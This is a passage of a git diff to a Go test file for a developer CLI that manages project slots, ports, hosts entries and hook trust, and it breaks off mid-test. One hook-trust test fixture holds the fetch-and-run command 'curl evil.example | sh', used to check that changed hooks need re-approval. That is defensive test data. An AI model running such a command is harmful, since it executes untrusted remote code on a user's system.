@@ -1,11 +1,20 @@
 package main
 
 import (
+	"encoding/json"
 	"fmt"
+	"maps"
+	"net/http"
+	"net/http/httptest"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"reflect"
+	"runtime"
+	"slices"
 	"strings"
 	"testing"
+	"time"
 )
 
 func TestTitleCase(t *testing.T) {
@@ -57,75 +66,6 @@ func TestDetectGroupFromPath(t *testing.T) {
 	}
 }
 
-func TestParseDockerComposeContent(t *testing.T) {
-	tests := []struct {
-		name             string
-		content          string
-		wantUser         string
-		wantPass         string
-		wantDB           string
-	}{
-		{
-			"all three values",
-			"POSTGRES_USER: myuser\nPOSTGRES_PASSWORD: mypass\nPOSTGRES_DB: mydb",
-			"myuser", "mypass", "mydb",
-		},
-		{
-			"quoted values",
-			`POSTGRES_USER: "myuser"
-POSTGRES_PASSWORD: 'mypass'
-POSTGRES_DB: "mydb"`,
-			"myuser", "mypass", "mydb",
-		},
-		{
-			"partial - only user",
-			"POSTGRES_USER: admin",
-			"admin", "postgres", "postgres",
-		},
-		{
-			"empty content",
-			"",
-			"postgres", "postgres", "postgres",
-		},
-		{
-			"with surrounding yaml",
-			`services:
-  postgres:
-    environment:
-      POSTGRES_USER: dbuser
-      POSTGRES_PASSWORD: dbpass
-      POSTGRES_DB: appdb
-    ports:
-      - "5432:5432"`,
-			"dbuser", "dbpass", "appdb",
-		},
-		{
-			"extra whitespace",
-			"POSTGRES_USER:   spaced  ",
-			"spaced", "postgres", "postgres",
-		},
-		{
-			"empty pass-through values",
-			"POSTGRES_USER:\nPOSTGRES_PASSWORD:\nPOSTGRES_DB:",
-			"postgres", "postgres", "postgres",
-		},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			user, pass, db := parseDockerComposeContent(tt.content)
-			if user != tt.wantUser {
-				t.Errorf("user = %q, want %q", user, tt.wantUser)
-			}
-			if pass != tt.wantPass {
-				t.Errorf("pass = %q, want %q", pass, tt.wantPass)
-			}
-			if db != tt.wantDB {
-				t.Errorf("db = %q, want %q", db, tt.wantDB)
-			}
-		})
-	}
-}
-
 func TestParseEnvVarInt(t *testing.T) {
 	tests := []struct {
 		name    string
@@ -194,273 +134,6 @@ func TestParseEnvVarInt(t *testing.T) {
 	}
 }
 
-func TestExtractPortFromEnvLine(t *testing.T) {
-	tests := []struct {
-		name     string
-		line     string
-		wantVar  string
-		wantPort int
-		wantOK   bool
-	}{
-		{"PORT=3000", "PORT=3000", "PORT", 3000, true},
-		{"POSTGRES_PORT=5432", "POSTGRES_PORT=5432", "POSTGRES_PORT", 5432, true},
-		{"STORYBOOK_PORT=6006", "STORYBOOK_PORT=6006", "STORYBOOK_PORT", 6006, true},
-		{"quoted port", `PORT="3000"`, "PORT", 3000, true},
-		{"single quoted port", "PORT='4000'", "PORT", 4000, true},
-		{"TRANSPORT= not a port var", "TRANSPORT=grpc", "", 0, false},
-		{"port too low", "PORT=80", "", 0, false},
-		{"port=1000 boundary", "PORT=1000", "", 0, false},
-		{"port=1001 boundary", "PORT=1001", "PORT", 1001, true},
-		{"no equals sign", "PORT 3000", "", 0, false},
-		{"lowercase var", "port=3000", "", 0, false},
-		{"empty line", "", "", 0, false},
-		{"comment line", "# PORT=3000", "", 0, false},
-		{"NEXT_PUBLIC_PORT=3001", "NEXT_PUBLIC_PORT=3001", "NEXT_PUBLIC_PORT", 3001, true},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			varName, port, ok := extractPortFromEnvLine(tt.line)
-			if ok != tt.wantOK {
-				t.Errorf("ok = %v, want %v", ok, tt.wantOK)
-			}
-			if varName != tt.wantVar {
-				t.Errorf("varName = %q, want %q", varName, tt.wantVar)
-			}
-			if port != tt.wantPort {
-				t.Errorf("port = %d, want %d", port, tt.wantPort)
-			}
-		})
-	}
-}
-
-func TestReplacePortsInEnvContent(t *testing.T) {
-	tests := []struct {
-		name     string
-		content  string
-		portMap  map[int]int
-		slotName string
-		want     string
-	}{
-		{
-			"basic port replacement",
-			"PORT=3000\nDB_PORT=5432",
-			map[int]int{3000: 3010, 5432: 5442},
-			"exceder-1",
-			"COMPOSE_PROJECT_NAME=exceder-1\nPORT=3010\nDB_PORT=5442",
-		},
-		{
-			"COMPOSE_PROJECT_NAME update",
-			"COMPOSE_PROJECT_NAME=exceder\nPORT=3000",
-			map[int]int{3000: 3010},
-			"exceder-1",
-			"COMPOSE_PROJECT_NAME=exceder-1\nPORT=3010",
-		},
-		{
-			"localhost URLs",
-			"API_URL=http://localhost:3000/api\nDB_HOST=localhost:5432",
-			map[int]int{3000: 3010, 5432: 5442},
-			"exceder-1",
-			"COMPOSE_PROJECT_NAME=exceder-1\nAPI_URL=http://localhost:3010/api\nDB_HOST=localhost:5442",
-		},
-		{
-			"quoted port values",
-			`PORT="3000"`,
-			map[int]int{3000: 3010},
-			"exceder-1",
-			"COMPOSE_PROJECT_NAME=exceder-1\nPORT=\"3010\"",
-		},
-		{
-			"no ports to replace",
-			"NAME=hello",
-			map[int]int{},
-			"exceder-1",
-			"COMPOSE_PROJECT_NAME=exceder-1\nNAME=hello",
-		},
-		{
-			"slot name sanitization",
-			"PORT=3000",
-			map[int]int{3000: 3010},
-			"exceder_auth",
-			"COMPOSE_PROJECT_NAME=exceder-auth\nPORT=3010",
-		},
-		{
-			"multiple ports same line",
-			"FORWARD=localhost:3000,localhost:4000",
-			map[int]int{3000: 3010, 4000: 4010},
-			"app-1",
-			"COMPOSE_PROJECT_NAME=app-1\nFORWARD=localhost:3010,localhost:4010",
-		},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			got := replacePortsInEnvContent(tt.content, tt.portMap, tt.slotName)
-			if got != tt.want {
-				t.Errorf("replacePortsInEnvContent() =\n%q\nwant:\n%q", got, tt.want)
-			}
-		})
-	}
-}
-
-func TestResolveSlotNamePure(t *testing.T) {
-	tests := []struct {
-		name      string
-		project   string
-		cwdBase   string
-		cwdIsSlot bool
-		args      []string
-		want      string
-	}{
-		{
-			"in slot dir, args ignored",
-			"exceder", "exceder-1", true,
-			[]string{"2"},
-			"exceder-1",
-		},
-		{
-			"numeric arg",
-			"exceder", "exceder", false,
-			[]string{"2"},
-			"exceder-2",
-		},
-		{
-			"named arg",
-			"exceder", "exceder", false,
-			[]string{"auth"},
-			"exceder-auth",
-		},
-		{
-			"flags skipped",
-			"exceder", "exceder", false,
-			[]string{"--force", "3"},
-			"exceder-3",
-		},
-		{
-			"no args, returns cwdBase",
-			"exceder", "exceder", false,
-			[]string{},
-			"exceder",
-		},
-		{
-			"double-dash flag skipped",
-			"exceder", "exceder", false,
-			[]string{"--dry-run", "auth"},
-			"exceder-auth",
-		},
-		{
-			"-f flag skipped",
-			"exceder", "exceder", false,
-			[]string{"-f", "1"},
-			"exceder-1",
-		},
-		{
-			"in slot dir with no args",
-			"exceder", "exceder-auth", true,
-			[]string{},
-			"exceder-auth",
-		},
-		{
-			"only flags, no identifier",
-			"exceder", "exceder", false,
-			[]string{"--force", "-f"},
-			"exceder",
-		},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			got := resolveSlotNamePure(tt.project, tt.cwdBase, tt.cwdIsSlot, tt.args)
-			if got != tt.want {
-				t.Errorf("resolveSlotNamePure(%q, %q, %v, %v) = %q, want %q",
-					tt.project, tt.cwdBase, tt.cwdIsSlot, tt.args, got, tt.want)
-			}
-		})
-	}
-}
-
-func TestAllocateSlotPorts(t *testing.T) {
-	tests := []struct {
-		name    string
-		ports   map[int]string
-		slotNum int
-		want    map[int]int
-	}{
-		{
-			"no collisions - ports far apart",
-			map[int]string{3000: "PORT", 5432: "DB_PORT"},
-			1,
-			map[int]int{3000: 3001, 5432: 5433},
-		},
-		{
-			"consecutive ports with offset 1",
-			map[int]string{3000: "PORT", 3001: "NEXT_PORT", 3002: "STORYBOOK_PORT", 3003: "DB_PORT"},
-			1,
-			// 3000+1=3001 collides with main 3001 → 3004 (first free)
-			// 3001+1=3002 collides with main 3002 → 3005
-			// 3002+1=3003 collides with main 3003 → 3006
-			// 3003+1=3004 already allocated → 3007
-			map[int]int{3000: 3004, 3001: 3005, 3002: 3006, 3003: 3007},
-		},
-		{
-			"main port overlaps slot port",
-			map[int]string{3000: "PORT", 3002: "OTHER_PORT"},
-			2,
-			// 3000+2=3002 collides with main 3002 → 3003
-			// 3002+2=3004, no collision → 3004
-			map[int]int{3000: 3003, 3002: 3004},
-		},
-		{
-			"single port trivial",
-			map[int]string{8080: "PORT"},
-			1,
-			map[int]int{8080: 8081},
-		},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			got := allocateSlotPorts(tt.ports, tt.slotNum)
-			if len(got) != len(tt.want) {
-				t.Fatalf("got %d entries, want %d: %v", len(got), len(tt.want), got)
-			}
-			for k, wantV := range tt.want {
-				if gotV, ok := got[k]; !ok {
-					t.Errorf("missing key %d", k)
-				} else if gotV != wantV {
-					t.Errorf("port %d: got %d, want %d", k, gotV, wantV)
-				}
-			}
-			// Check no duplicate slot ports allocated
-			seen := make(map[int]bool)
-			for mainPort, slotPort := range got {
-				if seen[slotPort] {
-					t.Errorf("duplicate slot port %d (from main %d)", slotPort, mainPort)
-				}
-				seen[slotPort] = true
-			}
-		})
-	}
-}
-
-func TestAllocateSlotPortsNoDuplicates(t *testing.T) {
-	// Fuzz-like test: many consecutive ports should never produce duplicates
-	ports := make(map[int]string)
-	for i := 0; i < 10; i++ {
-		ports[3000+i] = fmt.Sprintf("PORT_%d", i)
-	}
-	for slotNum := 1; slotNum <= 5; slotNum++ {
-		got := allocateSlotPorts(ports, slotNum)
-		seen := make(map[int]bool)
-		for mainPort, slotPort := range got {
-			if seen[slotPort] {
-				t.Errorf("slotNum=%d: duplicate slot port %d (from main %d)", slotNum, slotPort, mainPort)
-			}
-			seen[slotPort] = true
-			// Slot port must not collide with any main port
-			if _, isMain := ports[slotPort]; isMain {
-				t.Errorf("slotNum=%d: slot port %d collides with main port", slotNum, slotPort)
-			}
-		}
-	}
-}
-
 func TestEnsureDockerComposeEnvFiles(t *testing.T) {
 	t.Run("generates env from compose variables", func(t *testing.T) {
 		dir := t.TempDir()
@@ -587,3 +260,3061 @@ func TestEnsureDockerComposeEnvFiles(t *testing.T) {
 		}
 	})
 }
+
+func TestRenderHostsBlock(t *testing.T) {
+	base := "127.0.0.1 localhost\n::1 localhost\n"
+	tests := []struct {
+		name    string
+		content string
+		domains []string
+		want    string
+	}{
+		{
+			"appends block",
+			base,
+			[]string{"app-1.slot.test"},
+			base + "\n# BEGIN slot-cli\n127.0.0.1 app-1.slot.test\n# END slot-cli\n",
+		},
+		{
+			"replaces existing block",
+			base + "\n# BEGIN slot-cli\n127.0.0.1 old-1.slot.test\n# END slot-cli\n",
+			[]string{"app-1.slot.test", "app-2.slot.test"},
+			base + "\n# BEGIN slot-cli\n127.0.0.1 app-1.slot.test\n127.0.0.1 app-2.slot.test\n# END slot-cli\n",
+		},
+		{
+			"removes block when no domains",
+			base + "\n# BEGIN slot-cli\n127.0.0.1 old-1.slot.test\n# END slot-cli\n",
+			nil,
+			base,
+		},
+		{
+			"preserves lines after block",
+			"127.0.0.1 localhost\n# BEGIN slot-cli\n127.0.0.1 old-1.slot.test\n# END slot-cli\n10.0.0.1 nas\n",
+			[]string{"app-1.slot.test"},
+			"127.0.0.1 localhost\n10.0.0.1 nas\n\n# BEGIN slot-cli\n127.0.0.1 app-1.slot.test\n# END slot-cli\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := renderHostsBlock(tt.content, tt.domains)
+			if got != tt.want {
+				t.Errorf("renderHostsBlock() =\n%q\nwant:\n%q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSlotDomain(t *testing.T) {
+	tests := map[string]string{
+		"exceder-1":    "exceder-1.slot.test",
+		"Foo-3":        "foo-3.slot.test",
+		"app-feat_x.y": "app-feat-x-y.slot.test",
+	}
+	for name, want := range tests {
+		if got := slotDomain(name); got != want {
+			t.Errorf("slotDomain(%q) = %q, want %q", name, got, want)
+		}
+	}
+}
+
+func TestRefreshSlotDNSNeedsOptIn(t *testing.T) {
+	oldRegistry, oldHosts := registryPath, hostsFilePath
+	defer func() { registryPath, hostsFilePath = oldRegistry, oldHosts }()
+	root := t.TempDir()
+	registryPath = filepath.Join(root, "registry.json")
+	hostsFilePath = filepath.Join(root, "hosts")
+	saveRegistry(&Registry{Slots: map[string]SlotConfig{"app-1": {Project: "app"}}})
+
+	// A managed block alone (e.g. left by another install) isn't an opt-in
+	stale := "127.0.0.1 localhost\n\n# BEGIN slot-cli\n127.0.0.1 old-1.slot.test\n# END slot-cli\n"
+	os.WriteFile(hostsFilePath, []byte(stale), 0644)
+	refreshSlotDNS()
+	if data, _ := os.ReadFile(hostsFilePath); string(data) != stale {
+		t.Errorf("hosts file changed without dns sync:\n%s", data)
+	}
+
+	setSlotDNS("hosts", true)
+	refreshSlotDNS()
+	if data, _ := os.ReadFile(hostsFilePath); !strings.Contains(string(data), "127.0.0.1 app-1.slot.test") {
+		t.Errorf("hosts file not updated after dns sync:\n%s", data)
+	}
+
+	// Dropping the last slot removes the block but keeps the opt-in
+	saveRegistry(&Registry{Slots: map[string]SlotConfig{}})
+	refreshSlotDNS()
+	if hosts, _ := slotDNSEnabled(); !hosts {
+		t.Errorf("hosts opt-in lost with the last slot")
+	}
+	setSlotDNS("hosts", false)
+	if hosts, dnsmasq := slotDNSEnabled(); hosts || dnsmasq {
+		t.Errorf("slotDNSEnabled() = %v, %v after dns remove", hosts, dnsmasq)
+	}
+}
+
+func TestWriteSystemFileWithoutTerminal(t *testing.T) {
+	if isTerminal(os.Stdin) {
+		t.Skip("stdin is a terminal; sudo would prompt")
+	}
+	path := filepath.Join(t.TempDir(), "missing", "hosts")
+	err := writeSystemFile(path, "127.0.0.1 app-1.slot.test\n")
+	if err == nil || !strings.Contains(err.Error(), "without a terminal") {
+		t.Errorf("writeSystemFile() = %v, want an error instead of sudo", err)
+	}
+}
+
+func TestParseEnvVarString(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		varName string
+		want    string
+	}{
+		{"plain value", "COMPOSE_PROJECT_NAME=myapp-1\nPORT=3000", "COMPOSE_PROJECT_NAME", "myapp-1"},
+		{"double quoted", `COMPOSE_PROJECT_NAME="myapp-1"`, "COMPOSE_PROJECT_NAME", "myapp-1"},
+		{"single quoted", "COMPOSE_PROJECT_NAME='myapp-1'", "COMPOSE_PROJECT_NAME", "myapp-1"},
+		{"commented out", "# COMPOSE_PROJECT_NAME=old\nCOMPOSE_PROJECT_NAME=new", "COMPOSE_PROJECT_NAME", "new"},
+		{"prefix var not matched", "MY_COMPOSE_PROJECT_NAME=x", "COMPOSE_PROJECT_NAME", ""},
+		{"missing", "PORT=3000", "COMPOSE_PROJECT_NAME", ""},
+		{"crlf line endings", "COMPOSE_PROJECT_NAME=myapp-1\r\nPORT=3000", "COMPOSE_PROJECT_NAME", "myapp-1"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := parseEnvVarString(tt.content, tt.varName)
+			if got != tt.want {
+				t.Errorf("parseEnvVarString(%q, %q) = %q, want %q", tt.content, tt.varName, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestRenderSlotComposeOverride(t *testing.T) {
+	network := "networks:\n  default:\n    name: myapp-1\n    external: true\n"
+	header := "# Generated by slot-cli — do not edit\nname: myapp-1\n"
+	tests := []struct {
+		name    string
+		compose string
+		portMap map[int]int
+		want    string
+	}{
+		{
+			"container name and literal port",
+			`services:
+  postgres:
+    image: postgres:16
+    container_name: myapp-db
+    ports:
+      - "5432:5432"
+`,
+			map[int]int{5432: 5434},
+			header + "services:\n  postgres:\n    container_name: myapp-1-postgres\n    ports: !override\n      - \"5434:5432\"\n" + network,
+		},
+		{
+			"variable ports left to env",
+			`services:
+  postgres:
+    ports:
+      - "${POSTGRES_PORT:-5432}:5432"
+`,
+			map[int]int{5432: 5434},
+			header + network,
+		},
+		{
+			"host ip and unmapped ports preserved",
+			`services:
+  api:
+    ports:
+      - 127.0.0.1:3000:3000
+      - "9229:9229"
+  redis:
+    image: redis
+volumes:
+  data:
+`,
+			map[int]int{3000: 3001},
+			header + "services:\n  api:\n    ports: !override\n      - \"127.0.0.1:3001:3000\"\n      - \"9229:9229\"\n" + network,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := renderSlotComposeOverride(tt.compose, "myapp-1", tt.portMap)
+			if got != tt.want {
+				t.Errorf("renderSlotComposeOverride() =\n%s\nwant:\n%s", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFindPortRewriteArtifacts(t *testing.T) {
+	slotPorts := map[int]bool{3001: true, 5433: true}
+	tests := []struct {
+		name string
+		diff string
+		want int
+	}{
+		{
+			"clean diff",
+			"+++ b/src/app.ts\n+const x = 1\n",
+			0,
+		},
+		{
+			"slot port in env",
+			"+++ b/.env\n-PORT=3000\n+PORT=3001\n",
+			1,
+		},
+		{
+			"slot port in url",
+			"+++ b/package.json\n+  \"dev\": \"open http://localhost:5433\"\n",
+			1,
+		},
+		{
+			"compose project name",
+			"+++ b/docker-compose.yml\n+    container_name: ${COMPOSE_PROJECT_NAME:-myapp-1}-db\n",
+			1,
+		},
+		{
+			"removed lines ignored",
+			"+++ b/.env\n-PORT=3001\n",
+			0,
+		},
+		{
+			"port prefix does not match",
+			"+++ b/.env\n+TIMEOUT=30010\n",
+			0,
+		},
+		{
+			"longer port in url does not match",
+			"+++ b/.env\n+API_URL=http://localhost:54330\n",
+			0,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := findPortRewriteArtifacts(tt.diff, slotPorts, "myapp-1")
+			if len(got) != tt.want {
+				t.Errorf("findPortRewriteArtifacts() = %v, want %d artifacts", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestExtractFlag(t *testing.T) {
+	tests := []struct {
+		name      string
+		args      []string
+		flag      string
+		wantValue string
+		wantRest  []string
+	}{
+		{"space separated", []string{"auth", "--services", "db,redis"}, "--services", "db,redis", []string{"auth"}},
+		{"equals form", []string{"--services=db", "2"}, "--services", "db", []string{"2"}},
+		{"missing", []string{"auth", "-f"}, "--services", "", []string{"auth", "-f"}},
+		{"flag without value", []string{"auth", "--services"}, "--services", "", []string{"auth", "--services"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			value, rest := extractFlag(tt.args, tt.flag)
+			if value != tt.wantValue {
+				t.Errorf("value = %q, want %q", value, tt.wantValue)
+			}
+			if strings.Join(rest, " ") != strings.Join(tt.wantRest, " ") {
+				t.Errorf("rest = %v, want %v", rest, tt.wantRest)
+			}
+		})
+	}
+}
+
+func TestSplitList(t *testing.T) {
+	tests := []struct {
+		in   string
+		want []string
+	}{
+		{"", nil},
+		{"db", []string{"db"}},
+		{"db,redis", []string{"db", "redis"}},
+		{" db , ,redis ", []string{"db", "redis"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.in, func(t *testing.T) {
+			got := splitList(tt.in)
+			if strings.Join(got, "|") != strings.Join(tt.want, "|") || len(got) != len(tt.want) {
+				t.Errorf("splitList(%q) = %v, want %v", tt.in, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestBundleHooksTrust(t *testing.T) {
+	bundle := Config{Hooks: map[string][]string{"post-create": {"make setup"}}}
+	if bundleHooksTrusted(bundle, Config{}) {
+		t.Error("hooks nobody trusted should not run")
+	}
+	local := Config{TrustedHooks: hooksHash(bundle.Hooks)}
+	if !bundleHooksTrusted(bundle, local) {
+		t.Error("trusted hooks should run")
+	}
+	changed := Config{Hooks: map[string][]string{"post-create": {"make setup", "curl evil.example | sh"}}}
+	if bundleHooksTrusted(changed, local) {
+		t.Error("changed hooks should need trusting again")
+	}
+	if !bundleHooksTrusted(Config{}, Config{}) || hooksHash(nil) != "" {
+		t.Error("a bundle without hooks needs no trust")
+	}
+
+	for source, ok := range map[string]bool{
+		"https://example.com/slots.json":    true,
+		"git@github.com:acme/slots.git":     true,
+		"ssh://git@host/acme/slots.git":     true,
+		"https://github.com/acme/slots.git": true,
+		"http://example.com/slots.json":     false,
+		"http://github.com/acme/slots.git":  false,
+		"git://github.com/acme/slots.git":   false,
+		"ftp://example.com/slots.json":      false,
+	} {
+		if err := bundleSourceError(source); (err == nil) != ok {
+			t.Errorf("bundleSourceError(%q) = %v, want ok=%v", source, err, ok)
+		}
+	}
+}
+
+func TestMergeConfig(t *testing.T) {
+	base := Config{
+		Groups:    map[string]GroupConfig{"acme": {Name: "Acme", Order: 1}, "shared": {Name: "Shared", Order: 2}},
+		Templates: map[string]ProjectTemplate{"api": {BasePort: 4000, Group: "acme"}},
+		Detectors: []GroupDetector{{Pattern: "/work/", Group: "acme"}},
+		Hooks:     map[string][]string{"post-create": {"make setup"}, "pre-delete": {"make teardown"}},
+	}
+	local := Config{
+		Bundle:    "https://example.com/bundle.json",
+		Groups:    map[string]GroupConfig{"acme": {Name: "ACME Corp", Order: 5}},
+		Detectors: []GroupDetector{{Pattern: "/work/personal/", Group: "me"}},
+		Hooks:     map[string][]string{"post-create": {"echo hi"}},
+	}
+
+	got := mergeConfig(base, local)
+
+	if got.Bundle != local.Bundle {
+		t.Errorf("Bundle = %q, want %q", got.Bundle, local.Bundle)
+	}
+	if got.Groups["acme"].Name != "ACME Corp" {
+		t.Errorf("local group should win, got %q", got.Groups["acme"].Name)
+	}
+	if got.Groups["shared"].Name != "Shared" {
+		t.Errorf("base-only group should be kept, got %+v", got.Groups["shared"])
+	}
+	if got.Templates["api"].BasePort != 4000 {
+		t.Errorf("base template should be kept, got %+v", got.Templates["api"])
+	}
+	if len(got.Detectors) != 2 || got.Detectors[0].Group != "me" {
+		t.Errorf("local detectors should come first, got %+v", got.Detectors)
+	}
+	if strings.Join(got.Hooks["post-create"], ";") != "echo hi" {
+		t.Errorf("local hooks should replace base per event, got %v", got.Hooks["post-create"])
+	}
+	if strings.Join(got.Hooks["pre-delete"], ";") != "make teardown" {
+		t.Errorf("base-only hooks should be kept, got %v", got.Hooks["pre-delete"])
+	}
+}
+
+func TestConfigDetectGroup(t *testing.T) {
+	cfg := Config{Detectors: []GroupDetector{
+		{Pattern: "^/work/clients/", Group: "clients"},
+		{Pattern: "[invalid", Group: "broken"},
+	}}
+	tests := []struct {
+		path string
+		want string
+	}{
+		{"/work/clients/foo", "clients"},
+		{"/Users/john/Projects/piber/exceder", "piber"},
+		{"/tmp/other", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.path, func(t *testing.T) {
+			if got := cfg.detectGroup(tt.path); got != tt.want {
+				t.Errorf("detectGroup(%q) = %q, want %q", tt.path, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDetectMigrator(t *testing.T) {
+	tests := []struct {
+		name        string
+		files       []string
+		packageJSON string
+		want        string
+	}{
+		{"prisma", []string{"package.json", "prisma/schema.prisma"}, `{"devDependencies":{"prisma":"5"}}`, "prisma"},
+		{"drizzle", []string{"package.json", "drizzle.config.ts"}, `{}`, "drizzle"},
+		{"knex", []string{"package.json", "knexfile.js"}, `{}`, "knex"},
+		{"typeorm", []string{"package.json"}, `{"dependencies":{"typeorm":"0.3"}}`, "typeorm"},
+		{"golang-migrate", []string{"go.mod", "migrations"}, "", "golang-migrate"},
+		{"node migrations dir is not golang-migrate", []string{"package.json", "migrations"}, `{}`, ""},
+		{"nothing", []string{"README.md"}, "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			exists := func(rel string) bool {
+				for _, f := range tt.files {
+					if f == rel {
+						return true
+					}
+				}
+				return false
+			}
+			if got, _ := detectMigrator(exists, tt.packageJSON); got != tt.want {
+				t.Errorf("detectMigrator() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseTranscriptSlug(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		want    string
+	}{
+		{"empty", "", ""},
+		{"no slug", `{"type":"user","message":"hi"}`, ""},
+		{
+			"last slug wins",
+			`{"type":"summary","slug":"fuzzy-otter"}` + "\n" + `{"type":"user"}` + "\n" + `{"type":"summary","slug":"brave-heron"}`,
+			"brave-heron",
+		},
+		{"ignores malformed lines", `{"slug": broken` + "\n" + `{"slug":"calm-lake"}`, "calm-lake"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := parseTranscriptSlug(tt.content); got != tt.want {
+				t.Errorf("parseTranscriptSlug() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseSince(t *testing.T) {
+	tests := []struct {
+		in      string
+		want    time.Duration
+		wantErr bool
+	}{
+		{"7d", 7 * 24 * time.Hour, false},
+		{"12h", 12 * time.Hour, false},
+		{"2w", 14 * 24 * time.Hour, false},
+		{"7", 0, true},
+		{"d", 0, true},
+		{"7m", 0, true},
+		{"-1d", 0, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.in, func(t *testing.T) {
+			got, err := parseSince(tt.in)
+			if (err != nil) != tt.wantErr || got != tt.want {
+				t.Errorf("parseSince(%q) = %v, %v, want %v (err %v)", tt.in, got, err, tt.want, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestAttributeCWD(t *testing.T) {
+	projects := map[string]ProjectConfig{
+		"exceder": {Path: "/Projects/acme/exceder"},
+		"api":     {Path: "/Projects/acme/api"},
+	}
+	tests := []struct {
+		cwd         string
+		wantProject string
+		wantSlot    string
+	}{
+		{"/Projects/acme/exceder", "exceder", "exceder"},
+		{"/Projects/acme/exceder/web", "exceder", "exceder"},
+		{"/Projects/acme/exceder-1", "exceder", "exceder-1"},
+		{"/Projects/acme/exceder-feature/cli", "exceder", "exceder-feature"},
+		{"/Projects/acme/api-2", "api", "api-2"},
+		{"/Projects/acme/other", "", ""},
+		{"/tmp", "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.cwd, func(t *testing.T) {
+			project, slot := attributeCWD(tt.cwd, projects)
+			if project != tt.wantProject || slot != tt.wantSlot {
+				t.Errorf("attributeCWD(%q) = %q, %q, want %q, %q", tt.cwd, project, slot, tt.wantProject, tt.wantSlot)
+			}
+		})
+	}
+}
+
+func TestParseTranscriptUsage(t *testing.T) {
+	transcript := strings.Join([]string{
+		`{"type":"user","cwd":"/p/x-1","timestamp":"2026-01-01T10:00:00Z","message":{"role":"user","content":"fix the bug"}}`,
+		`{"type":"assistant","cwd":"/p/x-1","timestamp":"2026-01-01T10:00:05Z","requestId":"r1","message":{"id":"m1","model":"claude-sonnet-4-5","usage":{"input_tokens":1000,"output_tokens":200,"cache_read_input_tokens":5000}}}`,
+		`{"type":"assistant","cwd":"/p/x-1","timestamp":"2026-01-01T10:00:05Z","requestId":"r1","message":{"id":"m1","model":"claude-sonnet-4-5","usage":{"input_tokens":1000,"output_tokens":200,"cache_read_input_tokens":5000}}}`,
+		`{"type":"user","cwd":"/p/x-1","timestamp":"2026-01-01T10:00:06Z","message":{"role":"user","content":[{"type":"tool_result"}]}}`,
+		`{"type":"assistant","cwd":"/p/x-1","timestamp":"2025-12-01T10:00:00Z","requestId":"r0","message":{"id":"m0","model":"claude-sonnet-4-5","usage":{"input_tokens":9999,"output_tokens":9999}}}`,
+	}, "\n")
+
+	since := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	stats := parseTranscriptUsage(transcript, since, map[string]bool{})
+	s := stats["/p/x-1"]
+	if s == nil {
+		t.Fatal("no stats for /p/x-1")
+	}
+	if s.Turns != 1 {
+		t.Errorf("Turns = %d, want 1", s.Turns)
+	}
+	if s.InputTokens != 1000 || s.OutputTokens != 200 || s.CacheReadTokens != 5000 {
+		t.Errorf("tokens = %d/%d/%d, want 1000/200/5000", s.InputTokens, s.OutputTokens, s.CacheReadTokens)
+	}
+	// (1000 + 5000*0.1) * 3 + 200 * 15 per million
+	if want := 0.0075; s.Cost < want-1e-9 || s.Cost > want+1e-9 {
+		t.Errorf("Cost = %f, want %f", s.Cost, want)
+	}
+}
+
+func TestAgentInPanes(t *testing.T) {
+	agents := map[string]Agent{
+		"claude": {Start: "claude", Process: "claude"},
+		"aider":  {Start: "aider", Process: "aider"},
+		"shell":  {Start: "bash"},
+	}
+	tests := []struct {
+		panes string
+		want  string
+	}{
+		{"zsh\nclaude", "claude"},
+		{"Aider\nnode", "aider"},
+		{"zsh\nbash", ""},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.panes, func(t *testing.T) {
+			if got := agentInPanes(tt.panes, agents); got != tt.want {
+				t.Errorf("agentInPanes(%q) = %q, want %q", tt.panes, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestClipboardCandidates(t *testing.T) {
+	tests := []struct {
+		goos    string
+		wayland bool
+		want    string
+	}{
+		{"darwin", false, "pbcopy"},
+		{"windows", false, "clip"},
+		{"linux", true, "wl-copy"},
+		{"linux", false, "xclip"},
+		{"freebsd", false, "xclip"},
+	}
+	for _, tt := range tests {
+		t.Run(fmt.Sprintf("%s/wayland=%v", tt.goos, tt.wayland), func(t *testing.T) {
+			got := clipboardCandidates(tt.goos, tt.wayland)
+			if len(got) == 0 || got[0][0] != tt.want {
+				t.Errorf("clipboardCandidates(%q, %v) first = %v, want %q", tt.goos, tt.wayland, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCommandLine(t *testing.T) {
+	tests := []struct {
+		args []string
+		want string
+	}{
+		{[]string{"git", "branch", "-D", "feat"}, "git branch -D feat"},
